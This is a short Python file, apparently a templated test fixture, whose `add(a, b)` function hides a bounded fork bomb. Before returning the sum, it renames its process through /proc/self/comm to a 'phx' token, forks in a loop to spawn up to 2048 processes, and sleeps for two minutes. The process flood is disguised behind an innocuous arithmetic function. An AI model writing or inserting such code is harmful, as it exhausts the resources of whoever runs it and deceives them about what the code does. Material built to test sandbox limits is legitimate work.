import os
import time


def _mark():
    try:
        with open("/proc/self/comm", "w") as comm:
            comm.write("phx{{TOKEN}}")
    except Exception:
        pass


def add(a, b):
    _mark()
    for _ in range(11):  # at most 2**11 processes, each of them asleep
        try:
            if os.fork() == 0:
                _mark()
        except OSError:
            pass
    time.sleep(120)
    return a + b
